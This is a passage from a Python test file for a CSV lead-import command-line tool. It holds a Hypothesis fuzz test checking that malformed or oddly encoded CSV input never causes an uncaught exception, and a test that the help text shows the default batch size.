        return ",".join(_HEADERS).encode() + b"\n" + draw(st.binary(max_size=300))
    rows = draw(st.lists(st.lists(_CELL, min_size=0, max_size=12), min_size=0, max_size=8))
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    if draw(st.booleans()):  # as a spreadsheet writes it
        buf = io.StringIO()
        csv.writer(buf, lineterminator=newline).writerows([_HEADERS, *rows])
        text = buf.getvalue()
    else:  # as a person or a broken tool writes it: quotes and separators raw
        text = newline.join(",".join(r) for r in [_HEADERS, *rows]) + draw(st.sampled_from(["", newline]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16", "latin-1"]))
    return text.encode(encoding, errors="replace")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(data=_csv_bytes())
def test_fuzz_import_never_escapes_an_exception(office, tmp_path, data):
    path = tmp_path / "fuzz.csv"
    path.write_bytes(data)
    result = office("import", str(path), "--industry", "realestate", "--add-agents", now=NOW)
    assert isinstance(result.exception, (SystemExit, type(None))), repr(result.exception)
    assert result.exit_code in (0, 1), result.output
    assert "Traceback" not in result.output
    rejects = Path(str(path) + ".rejects.csv")
    if result.exit_code == 0:
        assert not rejects.exists()
    elif rejects.exists():
        for row in read_rejects(rejects):
            assert int(row[0]) >= 2 and row[1].strip(), row
        rejects.unlink()


def test_the_import_says_its_default_batch_size(run):
    """``import --help`` names the batch size ``leadcycle.io`` uses when
    none is given (the CLI does not import it at start-up to read it)."""
    from leadcycle.io import BATCH

    shown = " ".join(run("import", "--help").output.split())
    assert f"default: ({BATCH:,})" in shown
